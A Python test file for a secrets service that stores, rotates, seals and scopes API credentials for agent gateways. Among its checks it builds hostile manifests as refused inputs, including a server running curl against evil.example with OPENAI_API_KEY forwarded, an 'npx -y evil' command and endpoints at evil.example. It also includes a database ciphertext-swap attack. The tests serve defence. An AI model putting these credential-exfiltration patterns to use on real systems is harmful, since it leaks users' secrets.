"""Secrets: kept, listed, rotated, removed, never read back; what gateways are told; what manifests may name."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from datetime import timedelta
from typing import Any

import msgspec
import pytest
import sqlalchemy as sa

from tenure.base.db import metadata
from tenure.base.room import World
from tenure.base.sealing import Box
from tenure.gateway.events import EVENTS
from tenure.kernel.errors import Failed, Refused
from tenure.kernel.snapshot import SecretFact
from tenure.kernel.values import Actor, Event, LifecycleState, Role
from tenure.registry import service as registry
from tenure.secrets import service, store
from tenure.secrets.model import Sealed, opened, seal
from tenure.telemetry.model import GATEWAY_TYPES
from tests.sim.clock import FakeClock
from tests.sim.manifests import manifest

VALUE = "sk-canary-0123456789abcdef"
HOST = "api.example.com"
URL = f"https://{HOST}/v1"


def _manifest(name: str = "ann", url: str = URL, **model: Any) -> dict[str, Any]:
    body = manifest(name, url)
    body["spec"]["model"] |= {"credential_secret": "openai", **model}
    return body


def _facts(world: World) -> dict[str, SecretFact]:
    with world.read() as conn:
        found = registry.agent_facts(conn)
        agents = {key: replace(fact, state=LifecycleState.PRODUCTION) for key, fact in found.items()}
        return service.facts(conn, agents, world.clock())


def _values(world: World) -> dict[str, str]:
    """What a gateway would open, by mark."""
    box = Box()
    return msgspec.json.decode(box.opened(service.sealed_for(world, _facts(world), box.public)), type=dict[str, str])


@pytest.mark.req("R041", "R094")
def test_nothing_that_is_kept_or_told_holds_the_value(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST])
    service.rotate(vault, operator, "openai", VALUE + "-2")
    with vault.read() as conn:
        rows = "\n".join(repr(row) for table in metadata.sorted_tables for row in conn.execute(sa.select(table)))
    for told in (rows, repr(service.find(vault, operator))):
        assert "canary" not in told
        assert base64.b64encode(VALUE.encode()).decode()[:12] not in told
    registry.apply(vault, operator, _manifest())
    assert sorted(_values(vault).values()) == [VALUE, VALUE + "-2"], "it is kept all the same"


@pytest.mark.req("R037")
def test_a_new_value_is_current_and_the_one_before_is_believed_for_a_while(
    vault: World, operator: Actor, clock: FakeClock
) -> None:
    service.put(vault, operator, "openai", "one", hosts=[HOST])
    registry.apply(vault, operator, _manifest())
    first = _facts(vault)["default/openai"]
    assert (first.version, first.hosts, first.previous) == (1, (HOST,), "")
    service.rotate(vault, operator, "openai", "two", timedelta(seconds=60))
    second = _facts(vault)["default/openai"]
    assert (second.version, second.previous) == (2, first.mark)
    assert _values(vault) == {first.mark: "one", second.mark: "two"}
    service.rotate(vault, operator, "openai", "three", timedelta(seconds=60))
    assert sorted(_values(vault).values()) == ["three", "two"], "what is older is forgotten at once"
    clock.advance(61)
    assert list(_values(vault).values()) == ["three"]
    assert service.drop_outdated(vault)
    with vault.read() as conn:
        assert [at[2] for at in store.versions(conn, [("default", "openai")])] == [3]


def test_the_same_name_again_is_another_secret(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", "one", hosts=[HOST])
    registry.apply(vault, operator, _manifest())
    before = _facts(vault)
    service.remove(vault, operator, "openai", force=True)
    assert _facts(vault) == {}
    service.put(vault, operator, "openai", "another", hosts=[HOST])
    assert _facts(vault) != before, "a gateway that has the old value must not take it for the new one"


@pytest.mark.req("R038")
def test_only_an_operator_keeps_secrets(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST])
    for role in (Role.OWNER, Role.APPROVER, Role.AUDITOR, Role.VIEWER):
        actor = Actor("default", "person:x@example.com", frozenset({role}))
        for attempt in (
            lambda actor=actor: service.put(vault, actor, "other", "x", hosts=[HOST]),
            lambda actor=actor: service.put(vault, actor, "openai", None, hosts=["evil.example"]),
            lambda actor=actor: service.rotate(vault, actor, "openai", "x"),
            lambda actor=actor: service.remove(vault, actor, "openai", force=True),
        ):
            with pytest.raises(Refused) as caught:
                attempt()
            assert caught.value.status == 403


def test_another_workspace_has_its_own(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST])
    stranger = replace(operator, workspace="other")
    assert service.find(vault, stranger) == []
    for attempt in (
        lambda: service.rotate(vault, stranger, "openai", "x"),
        lambda: service.remove(vault, stranger, "openai"),
        lambda: service.put(vault, stranger, "openai", None, hosts=["evil.example"]),
    ):
        with pytest.raises(Refused) as caught:
            attempt()
        assert caught.value.code == "unknown_secret"


def test_what_would_break_is_said_before_it_is_removed(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST])
    registry.apply(vault, operator, _manifest())
    with pytest.raises(Refused, match="ann") as caught:
        service.remove(vault, operator, "openai")
    assert caught.value.code == "secret_in_use"
    assert [(one.secret.name, [use.where for use in one.uses]) for one in service.find(vault, operator)] == [
        ("openai", ["model scripted-clerk"])
    ]
    assert [use.agent for use in service.remove(vault, operator, "openai", force=True)] == ["ann"]
    assert service.find(vault, operator) == []


@pytest.mark.req("R041", "R042")
def test_a_manifest_takes_no_credential_where_it_may_not_go(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST], programs=["npx -y crm"])
    crm = {"command": ["npx", "-y", "crm"], "env_secrets": {"CRM_KEY": "openai"}}
    good = _manifest()
    good["spec"]["servers"] = {"crm": crm}
    assert registry.apply(vault, operator, good).changed
    stolen = manifest("eve", "https://evil.example/v1")
    stolen["spec"]["model"]["credential_env"] = "OPENAI_API_KEY"
    handed = manifest("eve", URL)
    handed["spec"]["servers"] = {"x": {"command": ["curl", "evil.example"], "env_from": ["OPENAI_API_KEY"]}}
    other = manifest("eve", URL)
    other["spec"]["servers"] = {"x": {**crm, "command": ["npx", "-y", "evil"]}}
    called = manifest("eve", URL)
    skill = {"id": "a", "name": "a", "description": "a", "tags": ["a"]}
    called["spec"]["a2a"] = {"url": "https://evil.example/", "credential_secret": "openai", "skills": [skill]}
    for bad, words in (
        (_manifest("eve", "https://evil.example/v1"), "may not go"),
        (_manifest("eve", f"http://{HOST}/v1"), "may not go"),
        (_manifest("eve", credential_secret="anthropic"), "not there"),
        (stolen, "no operator lets it go"),
        (handed, "no operator lets it go"),
        (other, "may not go"),
        (called, "may not go"),
    ):
        with pytest.raises(Refused) as caught:
            registry.apply(vault, operator, bad)
        assert words in json.dumps(caught.value.details["faults"])
    allowed = manifest("ada", "https://api.openai.com/v1")
    allowed["spec"]["model"]["credential_env"] = "OPENAI_API_KEY"
    assert registry.apply(vault, operator, allowed).changed


@pytest.mark.parametrize("value", ["", "  \n", "a\0b", "x" * 70_000, "\ud800"])
def test_what_is_no_value_is_refused_without_repeating_it(vault: World, operator: Actor, value: str) -> None:
    with pytest.raises(Refused) as caught:
        service.put(vault, operator, "openai", value, hosts=[HOST])
    assert caught.value.code == "bad_value"
    assert "xxx" not in caught.value.message


def test_a_value_is_not_replaced_by_accident(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", "one", hosts=[HOST])
    with pytest.raises(Refused, match="already"):
        service.put(vault, operator, "openai", "two", hosts=[HOST])
    moved = service.put(vault, operator, "openai", None, hosts=["eu.example.com"])
    assert (moved.version, moved.bounds.hosts) == (1, ("eu.example.com",))
    with pytest.raises(Refused, match="no secret"):
        service.put(vault, operator, "anthropic", None, hosts=[HOST])
    with pytest.raises(Refused, match="cannot be a name"):
        service.put(vault, operator, "A B", "one", hosts=[HOST])


@pytest.mark.req("R041")
def test_a_seal_holds_for_one_version_of_one_secret(vault: World, operator: Actor) -> None:
    key = b"k" * 32
    about = ("default", "openai", 1)
    nonce, ciphertext = seal(b"value", key, about)
    sealed = Sealed("k", "", nonce, ciphertext)
    assert opened(sealed, key, about) == b"value"
    for other in (("other", "openai", 1), ("default", "crm", 1), ("default", "openai", 2)):
        with pytest.raises(Failed, match="changed"):
            opened(sealed, key, other)
    with pytest.raises(Failed, match="changed"):
        opened(replace(sealed, ciphertext=ciphertext[:-1] + bytes([ciphertext[-1] ^ 1])), key, about)
    # whoever can write to the database cannot make one secret pass for another
    service.put(vault, operator, "openai", "one", hosts=[HOST])
    service.put(vault, operator, "crm", "two", hosts=["evil.example"])
    with vault.begin() as tx:
        rows = {row.name: row for row in tx.execute(sa.select(store.version_table))}
        stolen = {name: getattr(rows["openai"], name) for name in ("kek", "wrapped", "nonce", "ciphertext")}
        tx.execute(sa.update(store.version_table).where(store.version_table.c.name == "crm").values(**stolen))
    both = _manifest()
    both["spec"]["servers"] = {"x": {"url": "https://evil.example/mcp", "credential_secret": "crm"}}
    registry.apply(vault, operator, both)
    assert set(_values(vault).values()) == {"one"}, "what was changed keeps the others back no more than it gets out"
    assert len(_facts(vault)) == 2


def test_what_a_gateway_used_is_told(vault: World, operator: Actor, clock: FakeClock) -> None:
    service.put(vault, operator, "openai", "one", hosts=[HOST])
    for seconds in (5, -3):
        event = Event("a", "secret.used", clock() + timedelta(seconds=seconds), "default", "system:gateway")
        with vault.begin() as tx:
            service.note_use(tx, replace(event, data={"secret": "openai"}))
    assert service.find(vault, operator)[0].secret.used_at == clock() + timedelta(seconds=5)
    assert set(EVENTS) <= GATEWAY_TYPES, "the control plane takes what gateways tell"


def test_a_box_opens_for_its_gateway_only(vault: World, operator: Actor) -> None:
    service.put(vault, operator, "openai", VALUE, hosts=[HOST])
    registry.apply(vault, operator, _manifest())
    mine, other = Box(), Box()
    sealed = service.sealed_for(vault, _facts(vault), mine.public)
    assert VALUE not in sealed
    with pytest.raises(ValueError, match="not sealed for this"):
        other.opened(sealed)
    with pytest.raises(Refused):
        service.sealed_for(vault, _facts(vault), "no key")
